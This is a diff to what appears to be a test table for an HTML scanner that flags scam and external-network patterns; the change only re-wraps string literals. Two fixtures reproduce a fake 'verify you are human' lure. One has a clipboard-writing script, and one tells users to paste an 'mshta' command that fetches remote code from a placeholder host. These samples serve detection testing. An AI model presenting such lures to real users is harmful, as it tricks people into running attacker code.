@@ -71,12 +71,14 @@ const table: [string, string, string[]][] = [
   ['a help page', '<h1>Windows help</h1><p>Call support: 1-800-642-7676', []],
   [
     'paste to prove',
-    '<h1>Verify you are human</h1><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd><li>Press Ctrl + V<li>Enter</ol><script>navigator.clipboard.writeText(cmd)</script>',
+    '<h1>Verify you are human</h1><ol><li>Press <kbd>Windows</kbd> + <kbd>' +
+      'R</kbd><li>Press Ctrl + V<li>Enter</ol><script>navigator.clipboard.writeText(cmd)</script>',
     ['scam.paste_run 1'],
   ],
   [
     'paste a command',
-    '<p>Captcha failed: fix it.\n<p>Open the Run dialog, paste <code>mshta https://e.example</code> and press Enter',
+    '<p>Captcha failed: fix it.\n<p>Open the Run dialog, paste ' +
+      '<code>mshta https://e.example</code> and press Enter',
     ['scam.paste_run 2'],
   ],
   ['a list of shortcuts', '<h1>Shortcuts</h1><p>Win + R: run dialog<p>Ctrl + V: paste', []],
@@ -99,23 +101,27 @@ const table: [string, string, string[]][] = [
 
   [
     'far things',
-    '<script src="https://cdn.example/a.js"></script>\n<img src="b.png"><link rel=stylesheet href="//f.example/c.css">',
+    '<script src="https://cdn.example/a.js"></script>\n<img ' +
+      'src="b.png"><link rel=stylesheet href="//f.example/c.css">',
     ['net.external 1', 'net.external 2', 'net.external 2'],
   ],
   [
     'far styles',
-    '<style>\n@import "https://f.example/a.css"; p { background: url(https://f.example/b.png) }</style>',
+    '<style>\n@import "https://f.example/a.css"; p { ' +
+      'background: url(https://f.example/b.png) }</style>',
     ['net.external 2', 'net.external 2'],
   ],
   [
     'things within',
-    '<img src="data:image/png;base64,AA"><use href="#a"></use><link rel=icon href="x.ico"><a href="https://x.example">x</a>',
+    '<img src="data:image/png;base64,AA"><use href="#a"></use><link ' +
+      'rel=icon href="x.ico"><a href="https://x.example">x</a>',
     [],
   ],
 
   [
     'asks',
-    '<script type="application/json" data-assets>[{"name":"hero.png","kind":"sprite","what":"a hero"}]</script>',
+    '<script type="application/json" data-assets>' +
+      '[{"name":"hero.png","kind":"sprite","what":"a hero"}]</script>',
     [],
   ],
   [
